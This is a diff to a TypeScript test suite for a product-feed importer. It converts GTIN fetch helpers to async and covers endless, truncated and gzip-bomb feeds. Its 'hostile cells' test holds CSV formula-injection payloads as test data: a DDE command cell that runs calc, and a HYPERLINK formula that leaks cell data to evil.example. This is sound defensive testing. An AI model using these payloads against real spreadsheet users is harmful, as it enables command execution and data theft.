@@ -45,8 +45,8 @@ async function readGrowth(chunks: AsyncIterable<Buffer>): Promise<number> {
   return Math.max(most, process.memoryUsage().rss) - before
 }
 
-function fetchGtins(under: StoreUnderTest, channelId: string): string[] {
-  return fetchAll(under, channelId).map(({ gtin }) => gtin)
+async function fetchGtins(under: StoreUnderTest, channelId: string): Promise<string[]> {
+  return (await fetchAll(under, channelId)).map(({ gtin }) => gtin)
 }
 
 describe('feed without an end', () => {
@@ -123,7 +123,7 @@ describe('feed that fails as a whole', () => {
       code: 'VITRINE_IMPORT_FAILED',
       message: expect.stringContaining(message),
     })
-    expect(fetchGtins(under, channelId)).toEqual([GTINS[2]])
+    expect(await fetchGtins(under, channelId)).toEqual([GTINS[2]])
   })
 
   it.each([
@@ -137,7 +137,7 @@ describe('feed that fails as a whole', () => {
     writeFileSync(file, gzipSync(head + rows.join('')))
     truncateSync(file, 20_000)
     await expect(importFeed({ store: under.store, file })).rejects.toThrow('it is cut off')
-    expect(fetchGtins(under, channelId)).toEqual([GTINS[2]])
+    expect(await fetchGtins(under, channelId)).toEqual([GTINS[2]])
   })
 
   it('gzip - a little file of 200 MB of nothing - ImportError, in bounded memory', async () => {
@@ -188,7 +188,7 @@ describe('feed with hostile cells', () => {
       under,
       `gtin,title,link,price,brand\n00000000000017,"${title}",https://shop.example/,1.00 EUR,+cmd|' /C calc'!A0\n`,
     )
-    const items = fetchAll(under, summary.channelId)
+    const items = await fetchAll(under, summary.channelId)
     expect(items).toMatchObject([
       { title: '=HYPERLINK("https://evil.example/?x="&A1,"x")', brand: "+cmd|' /C calc'!A0" },
     ])
